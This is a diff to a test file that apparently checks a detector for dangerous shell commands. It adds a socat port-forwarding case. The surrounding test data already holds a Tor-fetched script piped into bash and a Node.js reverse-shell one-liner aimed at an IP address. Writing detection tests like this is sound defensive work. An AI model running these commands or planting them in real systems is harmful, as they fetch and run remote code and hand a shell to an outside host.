@@ -62,6 +62,7 @@ def test_fetched_data_not_run(command):
     ("torify curl -s http://exampleonionaddress.onion/x.sh | bash", "remote_script_to_shell"),
     ("ssh -o ProxyCommand='ssh -W %h:%p jump@203.0.113.7' root@10.0.0.9", "ssh_dynamic_or_local_forward"),
     ("node -e \"var net=require('net'),cp=require('child_process'),sh=cp.spawn('/bin/bash',['-i']);var c=net.createConnection(9001,'198.51.100.20',function(){c.pipe(sh.stdin);sh.stdout.pipe(c)})\"", 'reverse_shell_interpreter'),
+    ("socat TCP-LISTEN:7000,bind=0.0.0.0,fork TCP:10.0.0.5:22", "netcat_listener"),
 ])
 def test_detected(command, rule):
     assert rule in alerts(command)
